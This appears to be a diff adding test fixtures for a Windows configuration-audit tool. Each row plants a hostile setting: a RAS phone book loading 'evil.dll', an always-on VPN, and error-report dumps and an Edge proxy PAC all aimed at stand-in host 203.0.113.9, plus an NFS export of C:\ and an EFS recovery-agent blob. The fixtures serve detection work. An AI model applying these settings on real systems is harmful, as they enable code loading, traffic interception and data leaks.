@@ -82,3 +82,21 @@ change.row('printer-of-another-computer', 'The spooler connects to the printers 
 change.row('icon-of-another-computer', 'The shell reads the icon of a folder that it shows.', START, 'desktop.ini', lambda d: d.put(r'Users\Public\Documents\desktop.ini', '[.ShellClassInfo]\r\nIconResource=' + SHARE + r'\a.ico,0' + '\r\n'))
 change.row('machines-of-the-console', 'Server Manager asks the machines of its list when an administrator logs on.', START, 'ServerList.xml', lambda d: d.put(
     r'Users\Administrator\AppData\Roaming\Microsoft\Windows\ServerManager\ServerList.xml', '<ServerList xmlns="urn:serverpool-schema"><ServerInfo name="203.0.113.9" status="1"/></ServerList>'))
+
+# --- connections ---
+change.row('library-of-a-connection', 'The remote access loads CustomDialDll of a phone book to connect.', START, 'evil.dll', lambda d: (d.foreign(r'Program Files\kit\evil.dll'), d.put(
+    r'ProgramData\Microsoft\Network\Connections\Pbk\rasphone.pbk', '[x]\r\nMEDIA=rastapi\r\nDEVICE=vpn\r\nPhoneNumber=203.0.113.9\r\nCustomDialDll=C:\\Program Files\\kit\\evil.dll\r\n')))
+change.row('connection-by-itself', 'A connection that is always on leads all traffic to somebody else.', START, 'rasphone.pbk', lambda d: d.put(
+    r'ProgramData\Microsoft\Network\Connections\Pbk\rasphone.pbk', '[x]\r\nMEDIA=rastapi\r\nDEVICE=vpn\r\nPhoneNumber=203.0.113.9\r\nAlwaysOn=1\r\n'))
+OTHERS = 'WIN-DEF-002'
+change.row('tunnel-of-the-device', 'A device tunnel connects before anybody logs on.', OTHERS, 'ConnectionName', lambda d: d.system(rf'{SERVICES}\RasMan\DeviceTunnel', 'ConnectionName', SZ, 'x'))
+change.row('export-of-the-drive', 'Server for NFS gives the folder to whoever mounts it.', OTHERS, 'Exports', lambda d: d.software(r'Microsoft\Server For NFS\CurrentVersion\Exports\0', 'Path', SZ, 'C:\\'))
+change.row('memory-for-another-server', 'Reports of errors hold the memory of what failed.', OTHERS, 'CorporateWERServer', lambda d: d.software(
+    r'Policies\Microsoft\Windows\Windows Error Reporting', 'CorporateWERServer', SZ, '203.0.113.9'))
+change.row('proxy-of-a-browser', 'A policy of the browser chooses its proxy.', OTHERS, 'ProxyPacUrl', lambda d: d.software(r'Policies\Microsoft\Edge', 'ProxyPacUrl', SZ, 'http://203.0.113.9/p.pac'))
+change.row('agent-of-recovery', 'Files that anybody encrypts are readable for an agent of recovery.', OTHERS, 'EFSBlob', lambda d: d.software(
+    r'Policies\Microsoft\SystemCertificates\EFS', 'EFSBlob', BINARY, bytes.fromhex('01000000010000002a') + bytes(60)))
+BASIC = 'WIN-CAP-002'
+change.row('logon-by-card-alone', 'No password logs on where a smart card is asked for.', BASIC, 'scforceoption', lambda d: d.software(rf'{CURRENT}\Policies\System', 'scforceoption', DWORD, 1))
+change.row('packets-too-short', 'Windows sends packets of the size that the adapter is given.', BASIC, 'MTU', lambda d: d.system(
+    rf'{SERVICES}\Tcpip\Parameters\Interfaces\{{11111111-2222-3333-4444-555555555555}}', 'MTU', DWORD, 88))
